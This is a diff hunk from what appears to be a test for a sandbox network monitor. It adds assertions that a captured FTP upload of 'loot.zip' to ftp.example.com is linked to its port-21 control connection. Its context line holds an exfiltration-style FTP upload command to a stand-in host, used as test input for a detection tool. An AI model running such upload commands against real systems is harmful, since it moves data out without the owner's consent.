@@ -235,6 +235,10 @@ f = ftplib.FTP("ftp.example.com"); f.login(); f.storbinary("STOR loot.zip", io.B
     _, report = run(world, "-c", code, options=["--export", str(tmp_path / "out")])
     text = json.dumps(report["network"])
     assert "loot.zip" in text and "c@d" in text
+    data = next(a for a in report["network"] if "part_of" in a)
+    control = next(a for a in report["network"] if a.get("number") == data["part_of"])
+    assert control["port"] == 21 and data["serves"] == "STOR /loot.zip" and data["sent"]["bytes"] == 4
+    assert data["name"] == "ftp.example.com" and data["rule"] == control["rule"]
     kept = [p.read_bytes() for p in pathlib.Path(tmp_path / "out/network").rglob("*") if p.is_file()]
     assert b"loot" in kept and b"Subject: x\r\n\r\nthe text\r\n" in kept
 
